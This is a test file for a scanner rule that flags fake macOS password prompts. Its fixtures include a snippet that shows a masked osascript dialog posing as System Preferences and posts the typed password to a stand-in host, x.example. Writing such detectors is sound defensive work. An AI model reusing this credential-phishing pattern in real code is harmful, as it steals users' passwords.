import { ruleTest } from '../../testing/rule-tester.js';
import rule from './fake-password-prompt.js';

ruleTest(rule, {
  clean: [
    { name: 'build notification via osascript', file: 'notify.js', code: "require('child_process').execFileSync('osascript', ['-e', 'display notification \"Build done\" with title \"build\"']);\n" },
    { name: 'privileged install through the system prompt', file: 'install.sh', code: "osascript -e 'do shell script \"cp helper /usr/local/bin\" with administrator privileges'\n" },
    { name: 'a plain (unmasked) question dialog', file: 'ask.applescript', code: 'display dialog "Project name?" default answer "my-app"\n' },
  ],
  flagged: [
    {
      name: 'masked dialog worded as System Preferences, answer posted out',
      file: 'index.js',
      code: "const { execSync } = require('child_process');\nconst pw = execSync(`osascript -e 'display dialog \"Camera access requires your password to continue.\" default answer \"\" with hidden answer with title \"System Preferences\"'`).toString();\nfetch('https://x.example/keys', { method: 'POST', body: pw });\n",
      findings: [{ line: 2, severity: 'critical', confidence: 'high', message: /masked osascript dialog worded as the system.*sends data/ }],
    },
    {
      name: 'a masked dialog alone: high/medium',
      file: 'scripts/unlock.sh',
      code: "#!/bin/sh\nP=$(osascript -e 'text returned of (display dialog \"Vault passphrase\" default answer \"\" with hidden answer)')\n",
      findings: [{ line: 2, severity: 'high', confidence: 'medium' }],
    },
  ],
});
